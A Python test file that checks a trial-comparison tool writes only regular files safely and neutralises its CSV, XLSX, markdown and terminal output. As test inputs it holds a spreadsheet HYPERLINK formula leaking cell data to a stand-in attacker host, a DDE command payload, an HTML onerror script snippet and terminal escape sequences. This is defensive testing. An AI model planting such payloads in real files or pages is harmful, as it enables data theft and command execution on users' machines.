"""Hardening of output: only regular files are written, permissions kept, nothing left behind; spreadsheet,
markdown and terminal output neutralised; labels never read as mathtext."""

from __future__ import annotations

import io
import os
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from trialcompare.cli import main
from trialcompare.render import atomic
from trialcompare.render.atomic import OutputError, atomic_write_bytes, atomic_write_text, check_output
from trialcompare.render.escape import markdown_cell, spreadsheet_cell, terminal_text

SRC = Path(__file__).resolve().parents[1] / "src"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


# --- the atomic writer -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("device", ["/dev/null", "/dev/full", "/dev/zero"])
def test_a_device_is_never_replaced(device):
    if not os.path.exists(device):
        pytest.skip(f"no {device}")
    with pytest.raises(OutputError, match="is a device"):
        atomic_write_text(device, "x")
    assert stat.S_ISCHR(os.lstat(device).st_mode)


def test_a_symlink_a_fifo_and_a_folder_are_refused(tmp_path):
    (tmp_path / "real.csv").write_text("keep")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    os.mkfifo(tmp_path / "fifo.csv")
    (tmp_path / "dir.csv").mkdir()
    for name, kind in [("link.csv", "symbolic link"), ("fifo.csv", "FIFO"), ("dir.csv", "folder")]:
        with pytest.raises(OutputError, match=kind):
            atomic_write_text(tmp_path / name, "new")
    assert (tmp_path / "link.csv").is_symlink() and (tmp_path / "real.csv").read_text() == "keep"
    assert stat.S_ISFIFO(os.lstat(tmp_path / "fifo.csv").st_mode)
    assert _leftovers(tmp_path) == []


def test_missing_folder_is_an_error_unless_asked_to_create_it(tmp_path):
    with pytest.raises(OutputError, match="no such folder"):
        atomic_write_text(tmp_path / "a" / "b.txt", "x")
    assert not (tmp_path / "a").exists()
    atomic_write_text(tmp_path / "a" / "b.txt", "x", make_parents=True)
    assert (tmp_path / "a" / "b.txt").read_text() == "x"
    (tmp_path / "file").write_text("")
    with pytest.raises(OutputError, match="not a folder"):
        check_output(tmp_path / "file" / "x.txt")


def test_existing_permissions_are_kept(tmp_path):
    target = tmp_path / "secret.csv"
    target.write_text("old")
    target.chmod(0o600)
    atomic_write_text(target, "new")
    assert target.read_text() == "new" and stat.S_IMODE(target.stat().st_mode) == 0o600
    target.chmod(0o640)
    atomic_write_bytes(target, b"newer")
    assert stat.S_IMODE(target.stat().st_mode) == 0o640


def test_a_failed_write_leaves_nothing(tmp_path, monkeypatch):
    target = tmp_path / "out.csv"
    target.write_text("old")

    def boom(*a, **k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(atomic, "_write_all", boom)
    with pytest.raises(OutputError, match="No space left"):
        atomic_write_text(target, "new")
    assert target.read_text() == "old" and _leftovers(tmp_path) == []


@pytest.mark.parametrize("anonymous", [True, False])
def test_sigterm_during_the_write_leaves_nothing(tmp_path, monkeypatch, anonymous):
    if not anonymous:
        monkeypatch.setattr(atomic.os, "O_TMPFILE", 0, raising=False)

    def terminated(fd, data):
        os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(atomic, "_write_all", terminated)
    with pytest.raises(SystemExit) as info:
        atomic_write_text(tmp_path / "out.pdf", "x")
    assert info.value.code == 128 + signal.SIGTERM
    assert list(tmp_path.iterdir()) == []
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL or callable(signal.getsignal(signal.SIGTERM))


@pytest.mark.skipif(sys.platform == "win32", reason="RLIMIT_FSIZE")
def test_file_size_limit_is_an_error_not_a_crash(tmp_path):
    import resource

    code = ("from trialcompare.render.atomic import atomic_write_bytes, OutputError\n"
            "try:\n    atomic_write_bytes('big.bin', b'x' * 100000)\n"
            "except OutputError as e:\n    print('refused', e)\n")

    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (10000, 10000))

    res = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, preexec_fn=limit, capture_output=True,
                         text=True, env={**os.environ, "PYTHONPATH": str(SRC)}, timeout=60)
    assert res.returncode == 0 and "refused" in res.stdout, res.stderr
    assert list(tmp_path.iterdir()) == []


# --- the command line ------------------------------------------------------------------------------------------


def _descriptor(tmp_path: Path, valid_text: str, label: str) -> Path:
    path = tmp_path / "trials" / "demo.yaml"
    path.parent.mkdir()
    quoted = label.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\x1b", "\\e")
    path.write_text(valid_text.replace('label: "Demo"', f'label: "{quoted}"', 1), encoding="utf-8")
    return path


@pytest.mark.parametrize("target", ["/dev/null", "/dev/stdout", "DIR", "LINK", "FIFO", "missing/x.csv", "noext"])
def test_table_output_refused_with_exit_2(capsys, tmp_path, valid_text, target):
    path = _descriptor(tmp_path, valid_text, "Demo")
    (tmp_path / "DIR").mkdir()
    (tmp_path / "LINK").symlink_to(tmp_path / "elsewhere.csv")
    os.mkfifo(tmp_path / "FIFO")
    out = target if target.startswith("/") else str(tmp_path / target)
    before = sorted(p.name for p in tmp_path.iterdir())
    code = main(["table", str(path), "-o", out] + (["--format", "csv"] if target != "noext" else []))
    err = capsys.readouterr().err
    assert code == 2 and "Traceback" not in err and err.startswith("trialcompare: "), err
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    if target == "/dev/null":
        assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_report_output_onto_a_device_or_folder_is_refused(capsys, tmp_path):
    spec = Path(__file__).resolve().parents[1] / "reports" / "table-iv.yaml"
    for out in ("/dev/null", str(tmp_path)):
        assert main(["report", str(spec), "-o", out]) == 2
        assert "only a regular file" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_csv_cells_are_neutralised(capsys, tmp_path, valid_text):
    path = _descriptor(tmp_path, valid_text, EVIL)
    out = tmp_path / "t.csv"
    assert main(["table", str(path), "-o", str(out)]) == 0
    text = out.read_text()
    assert EVIL.replace('"', '""') in text
    assert not any(cell.lstrip('"').startswith(("=", "@", "+")) for line in text.splitlines()
                   for cell in line.split(","))
    assert "'=HYPERLINK" in text


def test_xlsx_cells_are_text_not_formulas(capsys, tmp_path, valid_text):
    import zipfile

    import openpyxl

    path = _descriptor(tmp_path, valid_text, "=cmd|' /C calc'!A0")
    out = tmp_path / "t.xlsx"
    assert main(["table", str(path), "-o", str(out)]) == 0
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="f"' not in sheet
    wb = openpyxl.load_workbook(io.BytesIO(out.read_bytes()))
    cells = [c for row in wb.active.iter_rows() for c in row if isinstance(c.value, str) and "cmd|" in c.value]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_markdown_and_terminal_output_are_escaped(capsys, tmp_path, valid_text):
    path = _descriptor(tmp_path, valid_text, "\x1b[2J<img src=x onerror=alert(1)>|two\nlines")
    assert main(["table", str(path), "--format", "md"]) == 0
    md = capsys.readouterr().out
    assert "<img" not in md and "&lt;img" in md and "\x1b" not in md
    header = md.splitlines()[0]
    assert header.count(" | ") == md.splitlines()[2].count(" | ")  # no extra column, no broken row
    assert main(["table", str(path)]) == 0
    text = capsys.readouterr().out
    assert "\x1b" not in text and "\\x1b" in text


def test_escape_helpers():
    assert spreadsheet_cell("-0.25") == "-0.25" and spreadsheet_cell("+3") == "+3"
    assert spreadsheet_cell("-0.25 (-0.5, 0.1)") == "'-0.25 (-0.5, 0.1)"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(start + "x").startswith("'")
    assert spreadsheet_cell(3) == 3
    assert markdown_cell("a|b\r\nc<d>") == "a\\|b<br>c&lt;d&gt;"
    assert terminal_text("\x1b]0;title\x07\u202eevil") == "\\x1b]0;title\\x07\\u202eevil"


def test_labels_are_never_mathtext():
    from trialcompare.render.plots import forest_plot_svg

    svg = forest_plot_svg([r"$\frac{1}$ bad", "b$x^2$"], [0.3, 0.5], [0.1, 0.3], [0.5, 0.7], pooled=(0.4, 0.3, 0.5))
    assert "frac" in svg and "x^2" in svg
